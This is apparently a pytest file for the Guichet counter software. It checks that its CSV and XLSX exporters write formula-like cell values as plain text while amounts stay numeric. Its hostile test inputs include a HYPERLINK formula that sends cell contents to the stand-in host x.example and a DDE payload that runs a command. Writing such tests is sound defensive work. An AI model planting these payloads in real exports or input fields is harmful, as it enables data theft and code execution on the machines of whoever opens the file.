"""Issue 21, part 7: every CSV and XLSX Guichet writes is formula-safe (OWASP's CSV injection
rule). A cell beginning with = + - @, a tab or a carriage return is text: in a CSV it gets a
leading apostrophe, in an XLSX it is a typed text cell (never a formula) with its value as
written. Amounts stay numbers, negative ones included. Card holders, customers' names on
cards and promotions' names come from people (and from other counters): each writer is tried
with hostile ones, and the file read back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from guichet.domain.promotions import Promotion, percent_off
from guichet.models.tables import Card
from guichet.models.tables import Promotion as PromotionRow
from guichet.services.cards import CardFilter
from guichet.services.counter import Counter
from guichet.services.export import export_rows
from guichet.services.promotions import PromotionAdmin

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Cliquez")',
    "@SUM(1)",
    "+1",
    "-2",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def in_xlsx(text: str) -> str:
    """``text`` as an XLSX gives it back: XML reads a carriage return as a line feed (still
    text, never a formula)."""
    return text.replace("\r", "\n")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_shared_writer_writes_hostile_text_as_text_and_amounts_as_numbers(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"export{suffix}"
    rows = [(text, -1250, 3, "Jean-Guy") for text in HOSTILE]
    assert export_rows(path, ["texte", "montant", "n", "nom"], rows, len(rows)) == len(rows)
    if suffix == ".csv":
        table = read_csv(path)
        assert [row[0] for row in table[1:]] == ["'" + text for text in HOSTILE]
        assert {row[1] for row in table[1:]} == {"-1250"}  # a number, no apostrophe
        assert {row[3] for row in table[1:]} == {"Jean-Guy"}  # a dash inside is harmless
        return
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == [in_xlsx(text) for text in HOSTILE]
    assert {row[0].data_type for row in cells} == {"s"}  # text, never "f" (formula)
    assert {(row[1].value, row[1].data_type) for row in cells} == {(-1250, "n")}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_card_lists_write_hostile_holders_as_text(
    make_counter, supervisor, tmp_path: Path, suffix: str
) -> None:  # type: ignore[no-untyped-def]
    boss: Counter = make_counter()
    boss.actor = supervisor
    lot, made = boss.cards.generate(
        boss.cards.find_card_type("Carte 10 bains").id, len(HOSTILE), activated=True
    )
    with boss.session_factory() as session, session.begin():
        for code, holder in zip(made, HOSTILE, strict=True):
            session.execute(update(Card).where(Card.code == code).values(holder_name=holder))
    path = tmp_path / f"cartes{suffix}"
    assert boss.cards.export(CardFilter(batch=lot), path) == len(HOSTILE)
    if suffix == ".csv":
        table = read_csv(path)
        holder = table[0].index("Détenteur")
        assert sorted(row[holder] for row in table[1:]) == sorted("'" + h for h in HOSTILE)
        return
    sheet = load_workbook(path).active
    assert sheet is not None
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    holder = header.index("Détenteur")
    cells = [row[holder] for row in sheet.iter_rows(min_row=2)]
    assert sorted(str(cell.value) for cell in cells) == sorted(map(in_xlsx, HOSTILE))
    assert {cell.data_type for cell in cells} == {"s"}
    uses = [row[header.index("Passages")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in uses} == {(10, "n")}


def test_promo_code_lists_write_a_hostile_promotion_name_as_text(
    cashier_counter: Counter, supervisor, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    admin = PromotionAdmin(
        cashier_counter.session_factory,
        cashier_counter.terminal_id,
        lambda: supervisor,
        lang="fr",
        clock=cashier_counter.clock,
    )
    pid = admin.save(Promotion(id="", name_fr="Étudiants", effect=percent_off(25)))
    admin.add_custom_code(pid, "ETUDIANT", 100)
    # A name that came from elsewhere (an older counter, the server's administration).
    hostile = '=HYPERLINK("http://x.example","Rabais")'
    with cashier_counter.session_factory() as session, session.begin():
        session.execute(update(PromotionRow).where(PromotionRow.id == pid).values(name_fr=hostile))
    path = tmp_path / "codes.csv"
    assert admin.export_codes_csv(pid, path) == 1
    table = read_csv(path)
    assert table[1][0] == "ETUDIANT"
    assert table[1][-1] == "'" + hostile
